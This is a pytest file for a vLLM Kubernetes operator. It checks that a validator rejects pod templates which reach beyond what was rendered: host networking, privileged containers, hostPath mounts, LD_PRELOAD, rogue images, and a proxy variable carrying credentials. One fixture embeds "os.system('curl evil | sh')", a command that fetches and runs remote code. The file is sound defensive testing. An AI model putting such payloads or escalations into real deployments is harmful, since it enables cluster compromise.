"""Kept pod templates: what any version of the operator rendered may be applied, and nothing that reaches further."""

import copy
from collections.abc import Callable
from typing import Any

import pytest
import yaml

from cluster.host import REPOSITORY
from support.snapshots import service
from vllm_operator.api.resource import InferenceService
from vllm_operator.assess.kept import Today, bars
from vllm_operator.cli.render import service_of
from vllm_operator.manifests import Rendering, pod_template
from vllm_operator.manifests.names import MIDDLEWARE_ANNOTATION
from vllm_operator.manifests.privileges import digests, is_within
from vllm_operator.settings import Images, Settings

SETTINGS = Settings()
TEMPLATE = pod_template(service(), SETTINGS)
Template = dict[str, Any]
PORT = {"name": "kv-events", "containerPort": 5557, "protocol": "TCP"}
TOKEN = {"sources": [{"serviceAccountToken": {"path": "token"}}]}


def bad(change: Callable[[Template, Template, Template], object], **settings: Any) -> str:
    """Why a template with a change to (all of it, its pods' spec, their container) is not applied."""
    template = copy.deepcopy(TEMPLATE)
    change(template, template["spec"], template["spec"]["containers"][0])
    return bars(template, Today(service().spec, Settings(**settings)))


def complete() -> tuple[InferenceService, Settings]:
    own = Settings.model_validate(yaml.safe_load((REPOSITORY / "tests/golden/services/settings.yaml").read_text()))
    written = service_of(yaml.safe_load((REPOSITORY / "tests/control_plane/complete.yaml").read_text()))
    every = {"hub_endpoint": "x", "http_proxy": "x", "https_proxy": "x", "no_proxy": "x", "ca_config_map": "x"}
    return written, own.model_copy(update=every)


def test_what_is_rendered_may_be_applied() -> None:
    assert bars(TEMPLATE, Today(service().spec, SETTINGS)) == ""
    owner, own = complete()
    template = pod_template(owner, own, Rendering("1" * 40, ("NVIDIA-H100-80GB-HBM3",)))
    assert bars(template, Today(owner.spec, own)) == ""


def test_what_the_first_version_rendered_may_be_applied() -> None:
    template = copy.deepcopy(TEMPLATE)
    template["metadata"]["annotations"] = {"vllm-operator.dev/middleware": "import asyncio"}
    pod = template["spec"]
    pod["volumes"] = [volume for volume in pod["volumes"] if volume["name"] != "home"]
    container = pod["containers"][0]
    container["env"] = [
        {"name": "HOME", "value": "/cache/home"},
        {"name": "USER", "value": "vllm"},
        {"name": "PYTHONPATH", "value": "/etc/vllm/operator"},
    ]
    assert bars(template, Today(service().spec, SETTINGS)) == ""


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda _, pod, __: pod.update(hostNetwork=True), "its spec has hostNetwork"),
        (lambda _, pod, __: pod.update(initContainers=[]), "its spec has initContainers"),
        (lambda _, pod, __: pod.update(nodeName="n"), "its spec has nodeName"),
        (lambda _, pod, __: pod["securityContext"].update(runAsUser=0), "another securityContext"),
        (lambda _, pod, __: pod["securityContext"].update(fsGroup=0), "another securityContext"),
        (lambda _, pod, __: pod.update(automountServiceAccountToken=True), "token of the API server"),
        (lambda _, pod, __: pod["containers"].append({"name": "x"}), "no pod template of ours"),
        (lambda _, pod, __: pod["volumes"].append({"name": "x", "hostPath": {"path": "/"}}), "volume x is of a kind"),
        (lambda _, pod, __: pod["volumes"].append({"name": "x", "csi": {}}), "volume x is of a kind"),
        (lambda _, pod, __: pod["volumes"].append({"name": "x", "projected": TOKEN}), "volume x holds something else"),
        (lambda *parts: parts[2]["securityContext"].update(privileged=True), "another securityContext"),
        (lambda *parts: parts[2].update(command=["sh"]), "runs something else than vLLM's server"),
        (lambda *parts: parts[2].update(envFrom=[]), "its container has envFrom"),
        (lambda *parts: parts[2]["ports"][0].update(hostPort=80), "other ports"),
        (lambda *parts: parts[2]["ports"].append({**PORT, "hostPort": 80}), "other ports"),
        (lambda *parts: parts[2]["ports"].append({**PORT, "name": "ssh"}), "other ports"),
        (lambda *parts: parts[2]["lifecycle"].update(postStart={}), "before it stops"),
        (lambda *parts: parts[2]["lifecycle"]["preStop"]["exec"].update(command=["sh"]), "before it stops"),
        (lambda *parts: parts[2]["startupProbe"]["httpGet"].update(host="h"), "its startupProbe asks"),
        (lambda *parts: parts[2]["livenessProbe"].pop("httpGet"), "no pod template of ours"),
        (lambda *parts: parts[2]["env"].append({"name": "PYTHONPATH", "value": "/cache"}), "its PYTHONPATH"),
        (lambda *parts: parts[2]["env"].append({"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}), "sees GPUs"),
        (lambda whole, *_: whole.pop("spec"), "no pod template of ours"),
        (lambda _, pod, __: pod.update(volumes=7), "no pod template of ours"),
    ],
)  # fmt: skip
def test_another_shape(change: Callable[[Template, Template, Template], object], told: str) -> None:
    assert told in bad(change)


@pytest.mark.parametrize(
    ("change", "setting"),
    [
        (lambda *parts: parts[2].update(image="evil/vllm:1"), "allowedImages"),
        (lambda *parts: parts[2]["args"].append("--trust-remote-code"), "allowTrustRemoteCode"),
        (lambda *parts: parts[2]["args"].append("--trust-remote-code=true"), "allowTrustRemoteCode"),
        (lambda *parts: parts[1].update(serviceAccountName="admin"), "allowedServiceAccounts"),
        (lambda *parts: parts[1].update(priorityClassName="system-node-critical"), "allowedPriorityClasses"),
        (lambda *parts: parts[1].update(runtimeClassName="kata"), "allowedRuntimeClasses"),
        (lambda *parts: parts[0]["metadata"]["labels"].update(app="payments"), "allowedPodLabels"),
        (lambda *parts: parts[0]["metadata"]["annotations"].update({"k8s.io/x": ""}), "allowedPodAnnotations"),
        (lambda *parts: parts[2]["env"].append({"name": "LD_PRELOAD", "value": "x"}), "LD_PRELOAD is not for env"),
    ],
)
def test_what_is_not_allowed_today(change: Callable[[Template, Template, Template], object], setting: str) -> None:
    assert setting in bad(change)
    template = copy.deepcopy(TEMPLATE)
    change(template, template["spec"], template["spec"]["containers"][0])
    today = Today(service().spec, SETTINGS, lambda: TEMPLATE, [digests(template)])
    assert bars(template, today) == "", "the Deployment asks for it in any case"


def test_an_earlier_default_image_may_stay_and_one_of_another_registry_may_not() -> None:
    def image(name: str) -> str:
        return bad(lambda *parts: parts[2].update(image=name), images=Images(gpu="registry.example.com:5000/vllm:2"))

    assert image("registry.example.com:5000/vllm:1") == ""
    assert image("registry.example.com:5000/vllm@sha256:" + "0" * 64) == ""
    assert "allowedImages" in image("registry.example.com:5000/vllm/evil:1")
    assert "allowedImages" in image("registry.example.com/vllm:1")


def test_the_digests_say_whether_one_asks_for_more_whatever_the_api_server_fills_in() -> None:
    filled = copy.deepcopy(TEMPLATE)
    filled["metadata"]["creationTimestamp"] = None
    filled["spec"] |= {"restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler"}
    filled["spec"]["containers"][0]["terminationMessagePath"] = "/dev/termination-log"
    assert digests(filled) == digests(TEMPLATE)
    filled["spec"]["serviceAccountName"] = "admin"
    assert is_within(digests(TEMPLATE), digests(filled))
    assert not is_within(digests(filled), digests(TEMPLATE))


@pytest.mark.parametrize(
    "add",
    [
        lambda whole, *_: whole["metadata"]["annotations"].update({"kubectl.kubernetes.io/restartedAt": "now"}),
        lambda whole, *_: whole["metadata"]["labels"].update({"policy.example.com/checked": "yes"}),
        lambda *parts: parts[1].update(serviceAccountName="default"),
        lambda *parts: parts[2]["env"].append({"name": "TZ", "value": "UTC"}),
        lambda *parts: parts[1]["volumes"].append({"name": "x", "configMap": {"name": "of-a-webhook"}}),
    ],
)
def test_what_others_add_to_a_workload_bars_no_template_of_an_earlier_version(
    add: Callable[[Template, Template, Template], object],
) -> None:
    earlier = copy.deepcopy(TEMPLATE)
    program(earlier)
    deployed = copy.deepcopy(earlier)
    add(deployed, deployed["spec"], deployed["spec"]["containers"][0])
    today = Today(service().spec, SETTINGS, lambda: TEMPLATE, [digests(deployed)])
    assert bars(earlier, today) == ""
    earlier["spec"]["volumes"].append({"name": "y", "persistentVolumeClaim": {"claimName": "payments"}})
    assert "claims (payments)" in bars(earlier, today)


def argument(*more: str) -> Callable[[Template, Template, Template], object]:
    """A template whose command line says more."""
    return lambda _all, _pod, container: container["args"].extend(more)


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ("--worker-cls=evil.Worker", "its command line has --worker-cls, which the operator passes nowhere"),
        ("--middlewar=evil.Middleware", "its command line has --middlewar, which the operator passes nowhere"),
        ("--middleware=evil.Middleware", "its command line has another --middleware than the operator's"),
        ("--load-format=pt", "its command line has another --load-format than the operator's"),
        ("-tp=2", "its command line has -tp, which the operator passes nowhere"),
        ("--tool-parser-plugin=/models/a/evil.py", "parserPlugins is not allowed by the operator's setting"),
        ("--enable-log-requests", "--enable-log-requests in extraArgs, which writes what clients send into the log"),
        ("--log-level=DEBUG", "--log-level in extraArgs, which writes what clients send into the log"),
    ],
)
def test_a_command_line_that_nobody_rendered_or_allows(more: str, said: str) -> None:
    assert bad(argument(more)).startswith(said)


def test_a_command_line_that_is_allowed() -> None:
    assert bad(argument("--tool-parser-plugin=/etc/vllm/plugins/a/plugin.py"), allow_parser_plugins=True) == ""
    assert bad(argument("--enable-log-requests"), allow_request_logs=True) == ""
    assert bad(argument("--log-level=WARNING")) == ""
    assert bad(argument("--seed=1", "--no-async-scheduling", "--load-format=mistral")) == ""


def volume(name: str, **source: Any) -> Callable[[Template, Template, Template], object]:
    """A template with another volume, mounted."""

    def change(_: Template, pod: Template, container: Template) -> None:
        pod["volumes"].append({"name": name, **source})
        container["volumeMounts"].append({"name": name, "mountPath": "/etc/vllm/configuration"})

    return change


def variable(name: str, value: str) -> Callable[[Template, Template, Template], object]:
    """A template with a variable."""
    return lambda _all, _pod, container: container["env"].append({"name": name, "value": value})


def test_a_level_of_the_log_that_nobody_allows() -> None:
    assert bad(variable("VLLM_LOGGING_LEVEL", "DEBUG")).startswith("VLLM_LOGGING_LEVEL DEBUG in env, which writes")
    assert bad(variable("VLLM_LOGGING_LEVEL", "DEBUG"), allow_request_logs=True) == ""
    assert bad(variable("VLLM_LOGGING_LEVEL", "WARNING")) == ""


@pytest.mark.parametrize("field", ["podAffinity", "podAntiAffinity"])
@pytest.mark.parametrize("other", [{"namespaces": ["team-b"]}, {"namespaceSelector": {}}])
def test_an_affinity_to_other_namespaces_that_nobody_allows(field: str, other: Template) -> None:
    near = {"topologyKey": "kubernetes.io/hostname"}
    terms = {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "podAffinityTerm": {**near, **other}}]}

    def named(_all: Template, spec: Template, _: Template) -> None:
        spec["affinity"] = {field: terms}

    assert f"in pod.affinity.{field} is not allowed by the operator's setting" in bad(named)
    assert bad(named, allow_cross_namespace_affinity=True) == ""
    required = {"requiredDuringSchedulingIgnoredDuringExecution": [near]}
    assert bad(lambda *parts: parts[1].update(affinity={field: required})) == ""
    other_template = copy.deepcopy(TEMPLATE)
    other_template["spec"]["affinity"] = {field: terms}
    assert bars(other_template, Today(service().spec, Settings(), running=[digests(other_template)])) == "", "it runs"


def program(whole: Template, *_: Template) -> None:
    """A template with another program for the server."""
    whole["metadata"]["annotations"][MIDDLEWARE_ANNOTATION] = "import os; os.system('curl evil | sh')"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (volume("x", persistentVolumeClaim={"claimName": "payments"}), "claims (payments)"),
        (volume("x", configMap={"name": "evil"}), "Secrets or ConfigMaps (ConfigMap evil)"),
        (volume("x", projected={"sources": [{"secret": {"name": "db"}}]}), "Secrets or ConfigMaps (Secret db)"),
        (lambda *parts: parts[2]["volumeMounts"][0].update(mountPath="/opt/vllm"), "volumes at paths (/opt/vllm)"),
        (variable("HTTPS_PROXY", "http://me:hunter2@evil:1"), "variables (HTTPS_PROXY)"),
        (lambda *parts: parts[2]["args"].__setitem__(0, "evil/backdoor"), "arguments (evil/backdoor)"),
        (argument("--tokenizer=evil/tokenizer"), "arguments (--tokenizer)"),
        (argument("--allowed-media-domains", "metadata.internal"), "arguments (metadata.internal)"),
        (lambda *parts: parts[2]["resources"]["limits"].update({"nvidia.com/gpu": "64"}), "GPUs (nvidia.com/gpu)"),
        (program, "a program for the server ("),
    ],
)
def test_nothing_is_brought_into_pods_that_the_spec_does_not_lead_to(
    change: Callable[[Template, Template, Template], object], said: str
) -> None:
    """Whoever may make ControllerRevisions, and services, gets no more by the first than by the second."""
    template = copy.deepcopy(TEMPLATE)
    change(template, template["spec"], template["spec"]["containers"][0])
    told = bars(template, Today(service().spec, SETTINGS, lambda: TEMPLATE))
    assert told.startswith(f"its pods have {said}"), told
    assert told.endswith(" that the spec does not lead to")
    assert "hunter2" not in told
    assert bars(template, Today(service().spec, SETTINGS, lambda: TEMPLATE, [digests(template)])) == ""


def test_what_is_rendered_today_brings_in_what_it_brings_in() -> None:
    owner, own = complete()
    rendering = Rendering("1" * 40, ("NVIDIA-H100-80GB-HBM3",))
    template = pod_template(owner, own, rendering)
    assert bars(template, Today(owner.spec, own, lambda: pod_template(owner, own, rendering))) == ""
